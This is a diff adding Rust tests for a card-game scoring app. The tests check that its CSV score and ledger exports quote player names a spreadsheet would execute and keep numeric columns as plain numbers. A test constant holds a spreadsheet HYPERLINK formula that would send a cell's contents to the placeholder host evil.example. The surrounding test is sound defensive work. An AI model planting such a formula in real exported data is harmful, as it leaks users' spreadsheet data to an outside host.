@@ -193,3 +193,105 @@ async fn an_unknown_format_is_refused_and_an_unknown_table_is_not_found(pool: Pg
 
     assert_eq!(app.snapshot(&table).await, before);
 }
+
+/// A name that a spreadsheet would run as a formula, and one it would read as a number.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")";
+const MINUS_ONE: &str = "-1";
+
+#[sqlx::test(migrations = "./migrations")]
+async fn a_tricky_dick_score_sheet_exports_a_row_per_hand_and_names_that_would_run_are_quoted(pool: PgPool) {
+    use tablekeeper::rules::games::tricky_dick::{sim, Options, TrickyDick};
+    use tablekeeper::rules::Game;
+
+    // Arrange: a one-hand Tricky Dick table played to its end, two players' names spreadsheet
+    // bait.
+    let app = spawn_app(pool).await;
+    let token = app.organiser("ann@club.example").await;
+    let players = [FORMULA, MINUS_ONE, "Cat", "Dan"];
+    let table = app
+        .game_table(&token, "tricky-dick", &players, json!({"hands": 1}))
+        .await;
+    let options = Options {
+        hands: 1,
+        ..Options::default()
+    };
+    let mut engine = TrickyDick::new(4, options).expect("game");
+    let hand = sim::random_hand(&mut engine, 7).expect("simulated hand");
+    for mv in &hand.moves {
+        accept(&app, &table, &token, serde_json::to_value(mv).expect("json")).await;
+    }
+    let sheet = app.scores(&table).await;
+
+    // Act
+    let (_, text) = csv(&app, &format!("/api/v1/tables/{table}/scores"), true).await;
+
+    // Assert: the hand is a row, numbered first, its figures numbers (negative ones too).
+    let rows = parse(&text);
+    assert_eq!(rows.len(), 2, "a header and one hand: {text}");
+    assert_eq!(rows[0][0], "hand");
+    assert_eq!(rows[1][0], "1");
+    let column = |name: &str| {
+        rows[0]
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("{name} in {:?}", rows[0]))
+    };
+    for (seat, player) in players.iter().enumerate() {
+        for field in ["points", "penalties", "totals"] {
+            let cell = &rows[1][column(&format!("{field} {player}"))];
+            assert_eq!(
+                cell.parse::<i64>().ok(),
+                sheet["sheet"]["hands"][0][field][seat].as_i64(),
+                "{field} of {player}: a number, as the sheet has it"
+            );
+        }
+    }
+    assert!(
+        !rows[1].iter().any(|cell| cell.starts_with('\'')),
+        "no number is quoted: {:?}",
+        rows[1]
+    );
+}
+
+#[sqlx::test(migrations = "./migrations")]
+async fn names_a_spreadsheet_would_run_are_quoted_in_the_ledgers_and_chip_columns_stay_numbers(pool: PgPool) {
+    // Arrange: a session whose Newmarket table seats `=HYPERLINK(…)` and `-1`; the layout's
+    // stakes leave every seat's net negative.
+    let app = spawn_app(pool).await;
+    let token = app.organiser("ann@club.example").await;
+    let session = app.session(&token, "Friday").await;
+    let body = json!({"game": "newmarket", "players": [FORMULA, MINUS_ONE, "Cat", "Dan"], "session_id": session});
+    let table = app.post("/api/v1/tables", &token, body).await.assert_status(201)["id"]
+        .as_str()
+        .expect("id")
+        .to_owned();
+    let layout = json!({"kind": "layout", "pool_cards": ["JD", "QH", "KC", "AS"], "stakes": ["AS", "KC", "QH", "JD"]});
+    accept(&app, &table, &token, layout).await;
+
+    // Act
+    let (_, session_csv) = csv(&app, &format!("/api/v1/sessions/{session}/ledger?format=csv"), false).await;
+    let (_, table_csv) = csv(&app, &format!("/api/v1/tables/{table}/ledger?format=csv"), false).await;
+
+    // Assert: the names behind a single quote, shown as typed after it; the chips numbers.
+    let rows = parse(&session_csv);
+    let seat = |n: u8| rows.iter().find(|r| r[2] == format!("seat:{n}")).expect("a seat");
+    assert_eq!(seat(0)[3], format!("'{FORMULA}"));
+    assert_eq!(seat(1)[3], format!("'{MINUS_ONE}"));
+    assert_eq!(seat(2)[3], "Cat");
+    let net = seat(1)[7].parse::<i64>().expect("a number");
+    assert!(net < 0, "a negative net is a plain negative number: {:?}", seat(1));
+    for row in &rows[1..] {
+        for column in [4, 6, 7] {
+            assert!(row[column].parse::<i64>().is_ok(), "{:?}", row);
+        }
+    }
+    let rows = parse(&table_csv);
+    let amount = rows[0].iter().position(|h| h == "amount").expect("amount");
+    assert!(
+        rows[1..]
+            .iter()
+            .any(|r| r[amount].starts_with('-') && r[amount].parse::<i64>().is_ok()),
+        "postings out of an account are negative numbers: {table_csv}"
+    );
+    assert!(!table_csv.contains("'-"), "{table_csv}");
+}
